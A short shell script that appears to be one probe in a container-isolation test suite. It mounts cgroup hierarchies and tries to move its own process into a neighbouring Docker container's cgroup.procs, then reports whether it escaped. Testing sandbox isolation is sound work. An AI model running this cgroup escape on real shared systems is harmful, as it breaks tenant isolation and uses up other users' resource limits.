# Category: cgroup release_agent and friends
# Escape: leaves its cgroup, and with it every limit, or moves into another lab's and uses up theirs.
# Sign: said
mkdir -p "/mnt/$TOKEN"
for kind in "cgroup -o pids" "cgroup -o memory" cgroup2; do
  mount -t $kind none "/mnt/$TOKEN" 2>/dev/null || continue
  for up in . .. ../.. ../../..; do [ -e "/mnt/$TOKEN/$up/docker/$NEIGHBOUR_ID/cgroup.procs" ] && echo 0 > "/mnt/$TOKEN/$up/docker/$NEIGHBOUR_ID/cgroup.procs"; done 2>/dev/null
  umount "/mnt/$TOKEN"
done
find /sys/fs/cgroup -path "*/docker/$NEIGHBOUR_ID/cgroup.procs" 2>/dev/null | while read -r file; do echo $$ > "$file" 2>/dev/null; done
grep -q "$NEIGHBOUR_ID" /proc/$$/cgroup && escaped "is in the neighbour's cgroup"
rmdir "/mnt/$TOKEN"
